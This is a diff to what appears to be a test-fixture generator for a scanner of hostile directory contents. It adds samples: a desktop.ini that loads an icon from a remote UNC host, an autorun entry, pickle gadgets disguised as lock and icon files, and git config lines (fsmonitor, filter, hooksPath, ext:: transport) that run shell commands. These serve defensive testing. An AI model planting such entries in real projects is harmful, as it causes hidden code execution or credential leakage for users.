@@ -83,6 +83,23 @@ def _renamed() -> Mapping[str, tuple[Make, str]]:
     made["archive-behind-store"] = (voice(also={".DS_Store": ds_store() + checkpoint()}), "polyglot")
     made["pickle-behind-events"] = (voice(also={EVENTS: events() + checkpoint()}), "polyglot")
     made["program-as-store"] = (voice(also={".DS_Store": ELF}), "directory-executable")
+    elsewhere = "[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\a\\b.ico\r\n"
+    made["view-of-another-machine"] = (voice(also={"desktop.ini": elsewhere}), "directory-code")
+    made["script-as-view"] = (voice(also={"desktop.ini": "[autorun]\r\nopen=a.exe\r\n"}), "directory-code")
+    made["pickle-as-owner"] = (voice(also={"~$README.docx": GADGET}), "pickle-import")
+    made["pickle-as-icon"] = (voice(also={"Icon\r": GADGET}), "pickle-import")
+    lines = {
+        "monitor": "[core]\n\tfsmonitor = touch x\n",
+        "filter": '[filter "a"]\n\tclean = sh a\n',
+        "hooks": "[core]\n\thooksPath = h\n",
+        "transport": '[submodule "a"]\n\turl = ext::sh a\n',
+    }
+    for key, line in lines.items():
+        repository = {".git/HEAD": "ref: refs/heads/main\n", ".git/objects/": b"", ".git/config": line}
+        bare = {"a/HEAD": "ref: refs/heads/main\n", "a/objects/": b"", "a/refs/": b"", "a/config": line}
+        made[f"repository-with-{key}"] = (voice(also=repository), "directory-code")
+        made[f"bare-repository-with-{key}"] = (voice(also=bare), "directory-code")
+    made["modules-with-transport"] = (voice(also={".gitmodules": lines["transport"]}), "directory-code")
     made["program-as-notes"] = (voice(also={".gitignore": ELF}), "directory-executable")
     made["script-as-digest"] = (voice(also={"hash.md5": "#!/bin/sh\ntrue\n"}), "directory-executable")
     made["script-as-zone"] = (
